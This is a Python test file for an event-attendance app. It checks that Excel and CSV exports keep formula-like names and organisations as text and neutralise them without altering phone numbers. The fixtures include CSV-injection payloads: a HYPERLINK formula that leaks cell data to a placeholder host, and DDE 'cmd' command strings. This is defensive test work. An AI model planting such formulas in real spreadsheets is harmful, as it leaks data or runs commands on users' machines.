"""Names and organisations that look like formulas stay text in every workbook we write, and the
CSV neutralises them without touching phone numbers."""

from __future__ import annotations

import csv
import re
import uuid
import zipfile
from pathlib import Path

import openpyxl
import pytest

from mornings_desktop.documents.attendance_csv import cell_text
from mornings_desktop.services import categories, exports, mornings, registrations, tickets
from mornings_desktop.services.workspace import Workspace
from mornings_desktop.timeutil import now_iso

HYPERLINK = '=HYPERLINK("http://x.example/?leak="&A2,"Voir")'
DDE = "=cmd|'/C calc'!A0"
PEOPLE = [
    {"first_name": HYPERLINK, "last_name": "Bennani", "organisation": DDE,
     "phone": "0661234567"},
    {"first_name": "Salma", "last_name": "=1+1", "organisation": "=SUM(A1:A9)",
     "job_title": "#N/A", "phone": "+212612345679"},
    {"first_name": "Omar", "last_name": "Alaoui", "organisation": "@SUM(1+1)*cmd|' /C calc'!A0",
     "phone": "+33 6 12 34 56 78"},
]  # fmt: skip
HOSTILE = {HYPERLINK, DDE, "=1+1", "=SUM(A1:A9)", "#N/A", "@SUM(1+1)*cmd|' /C calc'!A0"}


@pytest.fixture
def morning(ws: Workspace) -> str:
    categories.ensure_defaults(ws)
    morning = mornings.create(
        ws, mornings.MorningInput(title='=HYPERLINK("x")', date="2026-12-10", venue="Hyatt")
    )
    ids = [registrations.register_person(ws, morning, dict(p)) for p in PEOPLE]
    ws.record(
        "checkin.created",
        {"id": str(uuid.uuid4()), "registration_id": ids[0], "morning_id": morning,
         "at": now_iso(), "method": "scanner"},
    )  # fmt: skip
    return morning


def formulas(path: Path) -> list[str]:
    """Every `<f>` of every worksheet of the workbook at `path`."""
    found = []
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                xml = archive.read(name).decode("utf-8")
                found += re.findall(r"<(?:\w+:)?f[ >].*?</(?:\w+:)?f>|<(?:\w+:)?f/>", xml)
    return found


def text_cells(path: Path) -> dict[str, set[object]]:
    """The values of each sheet, with every hostile value checked to be a text cell."""
    out: dict[str, set[object]] = {}
    workbook = openpyxl.load_workbook(path)
    for sheet in workbook.worksheets:
        values: set[object] = set()
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and cell.value in HOSTILE | {'=HYPERLINK("x")'}:
                    assert cell.data_type == "s", (sheet.title, cell.coordinate, cell.value)
                values.add(cell.value)
        out[sheet.title] = values
    return out


def test_attendance_workbook_holds_no_formula(ws: Workspace, morning: str, tmp_path: Path) -> None:
    path = tmp_path / "presences.xlsx"
    exports.export_attendance(ws, morning, path, language="fr")
    assert formulas(path) == []
    sheets = text_cells(path)
    present, absent = sheets["Présences"], sheets["Absents"]
    assert {HYPERLINK, DDE, "=1+1", "=SUM(A1:A9)", "#N/A"} <= present
    assert {"=1+1", "=SUM(A1:A9)", "#N/A"} <= absent
    assert HYPERLINK not in absent
    assert any(DDE in v for k, v in sheets.items() if k not in ("Présences", "Absents"))


def test_series_report_holds_no_formula(ws: Workspace, morning: str, tmp_path: Path) -> None:
    from mornings_desktop.services import consent

    # the person-level sheet lists only people who said yes (law 09-08): all of them here
    everyone = {r.person_id for r in registrations.list_registrations(ws, morning)}
    consent.record_many(ws, everyone, "newsletter", "yes", "organiser")
    path = tmp_path / "serie.xlsx"
    exports.export_series(ws, path, language="fr")
    assert formulas(path) == []
    values = set().union(*text_cells(path).values())
    assert DDE in values and "=SUM(A1:A9)" in values


def test_mail_merge_holds_no_formula(ws: Workspace, morning: str, tmp_path: Path) -> None:
    path = tmp_path / "publipostage.xlsx"
    tickets.write_tickets(ws, morning, path)
    assert formulas(path) == []
    values = set().union(*text_cells(path).values())
    assert {HYPERLINK, DDE, "=1+1"} <= values


def test_the_check_sees_a_formula(tmp_path: Path) -> None:
    """The assertion above can fail: openpyxl left alone writes `<f>`."""
    workbook = openpyxl.Workbook(write_only=True)
    sheet = workbook.create_sheet("S")
    sheet.append([HYPERLINK])
    workbook.save(tmp_path / "f.xlsx")
    assert formulas(tmp_path / "f.xlsx")


def test_attendance_csv_neutralises_formulas_but_not_phones(
    ws: Workspace, morning: str, tmp_path: Path
) -> None:
    path = tmp_path / "presences.csv"
    exports.export_attendance(ws, morning, path, language="fr")
    rows = list(csv.reader(path.read_text("utf-8-sig").splitlines(), delimiter=";"))
    cells = {c for row in rows[1:] for c in row}
    assert "'" + HYPERLINK in cells and "'" + DDE in cells and "'=1+1" in cells
    assert not any(c.startswith(("=", "@")) for c in cells)
    assert {"+212 6 61 23 45 67", "+212 6 12 34 56 79", "+33 6 12 34 56 78"} <= cells
    assert not any(c.startswith("'+") for c in cells)


@pytest.mark.parametrize(
    ("value", "phone", "expected"),
    [
        ("+212 6 12 34 56 79", True, "+212 6 12 34 56 79"),
        ("+212612345678", True, "+212 6 12 34 56 78"),
        ("0661234567", True, "+212 6 61 23 45 67"),
        ("+12", True, "'+12"),
        ("+212 6 61 23 45 67", False, "'+212 6 61 23 45 67"),  # not the phone column
        ("-1", False, "'-1"),
        ("Ka\x1brim", False, "Karim"),
    ],
)
def test_csv_cell_text(value: str, phone: bool, expected: str) -> None:
    assert cell_text(value, "fr", phone=phone) == expected
